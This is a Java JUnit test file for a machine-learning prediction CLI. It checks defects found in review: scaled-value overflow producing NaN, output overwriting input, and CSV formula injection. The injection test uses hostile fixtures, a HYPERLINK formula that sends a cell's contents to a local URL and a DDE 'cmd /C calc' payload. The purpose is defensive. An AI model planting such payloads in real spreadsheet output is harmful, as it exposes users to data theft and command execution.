package org.fedbeam.pipelines.predict;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.fedbeam.data.FeatureScaling;
import org.fedbeam.model.ModelSpec;
import org.fedbeam.model.Parameters;
import org.fedbeam.model.bundle.BundleFormat;
import org.fedbeam.model.bundle.ModelBundle;
import org.fedbeam.pipelines.cli.FedBeam;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Review of issue 12 (independent attacker): {@code fedbeam predict} through the real CLI with a
 * real bundle file.
 */
class PredictReviewAttackTest {
  @TempDir
  Path dir;

  private Path bundle(List<String> labels, float[] scale) throws Exception {
    ModelSpec spec = ModelSpec.of(2, List.of(4), labels.size());
    Parameters model = spec.learner().initialize(3);
    ModelBundle b = new ModelBundle(model, List.of("a", "b"), new FeatureScaling(new float[2], scale), labels, "[]");
    Path file = dir.resolve("model.fbmb");
    Files.write(file, BundleFormat.encode(b));
    return file;
  }

  private static int cli(String... args) {
    return FedBeam.run(args, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8),
        new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
  }

  // Found by an independent review (a defect, now fixed): every raw cell is checked finite, but not the scaled value: a finite raw value with a
  // small (valid, > 0) scale overflows to Infinity, and predict writes NaN probabilities and labels the
  // row with the first class, exit 0, with no word. It should refuse the row (naming line and column)
  // as it refuses a non-finite cell.
  @Test
  void aRowWhoseScaledValueOverflowsIsNotPredictedAsNaNSilently() throws Exception {
    Path model = bundle(List.of("no", "yes"), new float[] {1e-30f, 1f});
    Path input = dir.resolve("in.csv");
    Files.writeString(input, "a,b\n1e10,0.5\n");
    Path output = dir.resolve("out.csv");
    int code = cli("predict", "--model", model.toString(), "--input", input.toString(), "--output", output.toString());
    if (code == 0) {
      List<String> lines = Files.readAllLines(output);
      assertThat("predicted probabilities must be numbers: " + lines, lines.get(1).contains("NaN"), equalTo(false));
    } else {
      assertThat(code, equalTo(2));
    }
  }

  // Found by an independent review (a defect, now fixed): --output equal to --input is accepted: the predictions replace the user's input file
  // (the move onto the output happens after the whole input was read), so the data is lost.
  @Test
  void anOutputThatIsTheInputIsRefusedAndTheInputKept() throws Exception {
    Path model = bundle(List.of("no", "yes"), new float[] {1f, 1f});
    Path input = dir.resolve("rows.csv");
    String rows = "a,b\n1,2\n3,4\n";
    Files.writeString(input, rows);
    int code = cli("predict", "--model", model.toString(), "--input", input.toString(), "--output", input.toString());
    assertThat(code, equalTo(2));
    assertThat("the input is intact", Files.readString(input), equalTo(rows));
  }

  // DEFECT (CSV/formula injection, OWASP): a class label or an id copied from the input that starts
  // with '=', '+', '-' or '@' is written as is, so a spreadsheet opening predictions.csv evaluates it
  // as a formula (e.g. =HYPERLINK(...) or a DDE payload). Such cells should be neutralised (e.g. a
  // leading apostrophe, as OWASP recommends) or the docs should warn.
  @Test
  void aLabelOrIdThatIsAFormulaIsNotWrittenAsAFormula() throws Exception {
    String evil = "=HYPERLINK(\"http://127.0.0.1/x?\"&A1;\"click\")";
    Path model = bundle(List.of(evil, "@SUM(1+1)"), new float[] {1f, 1f});
    Path input = dir.resolve("ids.csv");
    Files.writeString(input, "id,a,b\n=1+2,1,2\n+cmd|' /C calc'!A0,3,4\n");
    Path output = dir.resolve("pred.csv");
    int code = cli("predict", "--model", model.toString(), "--input", input.toString(), "--output", output.toString(),
        "--id-column", "id");
    assertThat(code, equalTo(0));
    for (String line : Files.readAllLines(output)) {
      for (String cell : org.fedbeam.data.CsvLine.split(line)) {
        String raw = cell;
        assertThat("a cell of " + output + " that a spreadsheet runs as a formula: " + line, raw,
            not(startsWith("=")));
        assertThat(raw, not(startsWith("+")));
        assertThat(raw, not(startsWith("@")));
      }
      // the header's p_<label> starts with p_, fine; the predicted label and ids must not be formulas
    }
  }
}
